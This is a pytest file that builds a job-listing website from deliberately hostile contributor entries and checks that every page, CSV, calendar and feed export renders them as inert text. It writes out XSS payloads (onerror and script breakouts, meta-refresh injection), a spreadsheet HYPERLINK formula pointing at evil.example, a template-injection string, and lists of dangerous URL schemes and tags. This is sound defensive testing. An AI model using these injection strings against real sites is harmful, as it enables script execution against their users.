"""One real site built from many hostile listings: everything contributors wrote comes out inert.

Every HTML page of the site passes the general checks (no event handlers,
no script-capable URLs, no frames, forms, objects or refreshes from
contributors, no contributor script); each rendering case then checks its
own pages for the literal text it must show.
"""

from __future__ import annotations

import copy
import csv
import io
import json
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import feedparser
import icalendar
import pytest
import yaml
from cases import MARK, RENDER_CASES, RenderCase
from hostile_support import AS_OF
from sitebuild import OPPORTUNITY, ORGANIZATION, build_site, minimal_catalog

from generator.model.checked import check_catalog

ORG = "acme-health"
EVIL_ORG = "evil-org"
EVIL_PATH = "evil-path"
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "poster", "data", "srcset", "background", "cite"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")


def _apply(data: dict[str, Any], changes: dict[str, Any]) -> dict[str, Any]:
    data = copy.deepcopy(data)
    for dotted, value in changes.items():
        target: Any = data
        *parents, last = dotted.split(".")
        for part in parents:
            target = target[int(part)] if part.isdigit() else target.setdefault(part, {})
        target[last] = value
    return data


def _write(path: Path, data: dict[str, Any]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")


def case_pages(case: RenderCase) -> list[str]:
    """The pages a case's expectations apply to: its listing, or its organization, in both languages."""
    path = {"organization": f"employers/{EVIL_ORG}/", "pathway": f"pathways/{EVIL_PATH}/"}.get(
        case.kind, f"opportunities/{ORG}/{case.name}/"
    )
    return [path, "es/" + path]


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hostile-site")
    catalog = minimal_catalog(root / "catalog")
    base = yaml.safe_load(OPPORTUNITY)
    for case in RENDER_CASES:
        if case.kind == "organization":
            _write(catalog / "employers" / EVIL_ORG / "organization.yml", _apply(yaml.safe_load(ORGANIZATION), case.changes))
            _write(catalog / "employers" / EVIL_ORG / "listing.yml", _apply(base, {"title": "Evil Org Listing"}))
        elif case.kind == "pathway":
            pathway = yaml.safe_load((catalog / "pathways" / "health-careers.yml").read_text(encoding="utf-8"))
            pathway.pop("translations", None)  # the Spanish page then shows the hostile English text too
            _write(catalog / "pathways" / f"{EVIL_PATH}.yml", _apply(pathway, case.changes))
        else:
            changes = {"title": f"Case {case.name}", **case.changes}
            _write(catalog / "employers" / ORG / f"{case.name}.yml", _apply(base, changes))
    checked = check_catalog(catalog, as_of=AS_OF)
    assert checked.ok, checked.errors  # every hostile value here is allowed in: the question is how it comes out
    assert len(checked.catalog.opportunities) == sum(case.kind != "pathway" for case in RENDER_CASES) + 1
    assert EVIL_PATH in checked.catalog.pathways
    build_site(root / "site", catalog)
    return root / "site"


# -- general checks on every page --------------------------------------------------


class Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.scripts: list[tuple[dict[str, str], str]] = []
        self.styles: list[str] = []
        self.title = ""
        self.text: list[str] = []
        self._open: tuple[str, dict[str, str]] | None = None
        self._buffer: list[str] = []
        self._skip = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        self.tags.append((tag, values))
        if tag in ("script", "style", "title"):
            self._open, self._buffer = (tag, values), []
        if tag in ("script", "style"):
            self._skip += 1

    def handle_endtag(self, tag: str) -> None:
        if self._open and tag == self._open[0]:
            content = "".join(self._buffer)
            if tag == "script":
                self.scripts.append((self._open[1], content))
            elif tag == "style":
                self.styles.append(content)
            else:
                self.title = content
            self._open = None
        if tag in ("script", "style") and self._skip:
            self._skip -= 1

    def handle_data(self, data: str) -> None:
        if self._open:
            self._buffer.append(data)
        if not self._skip:
            self.text.append(data)

    @property
    def visible(self) -> str:
        return " ".join(" ".join(self.text).split())


def parse(path: Path) -> Page:
    page = Page()
    page.feed(path.read_text(encoding="utf-8"))
    page.close()
    return page


def all_pages(site: Path) -> list[Path]:
    return sorted(site.rglob("*.html"))


def test_the_hostile_site_has_a_page_for_every_case(hostile_site: Path) -> None:
    for case in RENDER_CASES:
        for page in case_pages(case):
            assert (hostile_site / page / "index.html").is_file(), page


def test_no_page_has_live_contributor_markup(hostile_site: Path) -> None:
    checked = 0
    for path in all_pages(hostile_site):
        html = path.read_text(encoding="utf-8")
        page = parse(path)
        where = path.relative_to(hostile_site).as_posix()
        for tag, attrs in page.tags:
            assert tag not in ("iframe", "object", "embed", "base", "frame", "frameset", "applet"), (where, tag, attrs)
            assert not (tag == "meta" and "http-equiv" in attrs), (where, attrs)
            if tag == "form":
                assert MARK not in str(attrs) and "://" not in attrs.get("action", ""), (where, attrs)
            for name, value in attrs.items():
                assert not name.startswith("on"), (where, tag, name, value)
                if name in URL_ATTRIBUTES:
                    squeezed = "".join(c for c in value if c > " ").lower()
                    assert not squeezed.startswith(BAD_SCHEMES), (where, tag, name, value)
                if name == "style":
                    assert MARK not in value and "url(" not in value, (where, tag, value)
        for attrs, content in page.scripts:
            if attrs.get("type") in ("application/ld+json", "application/json"):
                json.loads(content)  # stays data: a value cannot end the element early
            else:
                assert MARK not in content, (where, content[:200])
        assert all(MARK not in style for style in page.styles), where
        assert "wzxhzdk" not in html, where  # Markdown's placeholders never leak
        checked += 1
    assert checked > 100


@pytest.mark.parametrize("case", RENDER_CASES, ids=[c.name for c in RENDER_CASES])
def test_each_case_renders_inert(hostile_site: Path, case: RenderCase) -> None:
    for url in case_pages(case):
        path = hostile_site / url / "index.html"
        page = parse(path)
        # The page's own content; the header and navigation are the theme's.
        body = path.read_text(encoding="utf-8").split('<div class="wbl wbl-', 1)[1]
        spanish = url.startswith("es/")
        visible = case.visible_es if spanish and case.visible_es is not None else case.visible
        present = case.present_es if spanish and case.present_es is not None else case.present
        for literal in visible:
            assert " ".join(literal.split()) in page.visible, (url, literal)
        for fragment in present:
            assert fragment in body, (url, fragment)
        for fragment in case.absent:
            assert fragment not in body, (url, fragment)
        assert "49" not in page.title, (url, page.title)


def test_a_hostile_organization_name_is_text_wherever_it_appears(hostile_site: Path) -> None:
    name = f"<img src=x onerror=alert('{MARK}')> Org"
    for url in (f"opportunities/{EVIL_ORG}/listing/", "opportunities/", "employers/", "es/opportunities/"):
        page = parse(hostile_site / url / "index.html")
        assert name in page.visible, url
        assert not any(tag == "img" for tag, _ in page.tags), url


def test_titles_cannot_leave_the_title_element_or_meta_attributes(hostile_site: Path) -> None:
    for case_name in ("title-closes-title", "summary-breaks-out-of-meta"):
        html = (hostile_site / f"opportunities/{ORG}/{case_name}/index.html").read_text(encoding="utf-8")
        head = html.split("</head>", 1)[0]
        assert head.count("<title>") == 1 and head.count("</title>") == 1
        assert "<script>alert" not in head and "<meta http-equiv" not in head
    page = parse(hostile_site / f"opportunities/{ORG}/title-closes-title/index.html")
    assert page.title.startswith(f"</title><script>alert('{MARK}')</script> Title")
    meta = parse(hostile_site / f"opportunities/{ORG}/summary-breaks-out-of-meta/index.html")
    descriptions = [a["content"] for tag, a in meta.tags if tag == "meta" and a.get("name") == "description"]
    assert descriptions == [f'"><script>alert(\'{MARK}\')</script><meta http-equiv="refresh" content="0">']


def test_structured_data_keeps_hostile_titles_as_data(hostile_site: Path) -> None:
    page = parse(hostile_site / f"opportunities/{ORG}/structured-data-breakout/index.html")
    (ld,) = [json.loads(content) for attrs, content in page.scripts if attrs.get("type") == "application/ld+json"]
    assert ld["@type"] == "JobPosting"
    assert ld["title"] == f"</script><script>alert('{MARK}')</script> Real Internship"


def test_snippet_lines_do_not_include_repository_files(hostile_site: Path) -> None:
    html = (hostile_site / f"opportunities/{ORG}/snippet-include-line/index.html").read_text(encoding="utf-8")
    assert "--8&lt;-- &quot;mkdocs.yml&quot;" in html or '--8&lt;-- "mkdocs.yml"' in html
    assert "site_name: LA Work-Based Learning Catalog" not in html


def test_exports_keep_hostile_text_as_data(hostile_site: Path) -> None:
    title = f'=HYPERLINK("https://evil.example/{MARK}");\\, x'
    raw = (hostile_site / "data" / "opportunities.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(raw, newline="")))
    titles = {row["catalog_id"]: row["title"] for row in rows}
    assert titles[f"{ORG}/spreadsheet-formula-and-calendar-text"] == "'" + title  # a spreadsheet shows it, never runs it
    assert all(not t.startswith(("=", "+", "-", "@")) for t in titles.values())
    events = icalendar.Calendar.from_ical((hostile_site / "data" / "deadlines.ics").read_bytes()).walk("VEVENT")
    summaries = {str(e["SUMMARY"]) for e in events}
    assert f"Deadline: {title} (Acme Health)" in summaries
    feed = feedparser.parse((hostile_site / "data" / "feed.xml").read_bytes())
    assert not feed.bozo, feed.get("bozo_exception")
    titles = {entry.title for entry in feed.entries}
    assert f"{title} (Acme Health)" in titles
    assert f"</script><script>alert('{MARK}')</script> Real Internship (Acme Health)" in titles
    data = json.loads((hostile_site / "data" / "catalog.json").read_text(encoding="utf-8"))
    by_id = {o["catalog_id"]: o for o in data["opportunities"]}
    assert by_id[f"{ORG}/template-syntax"]["title"] == "Template {{ 7*7 }} {% raw %}"
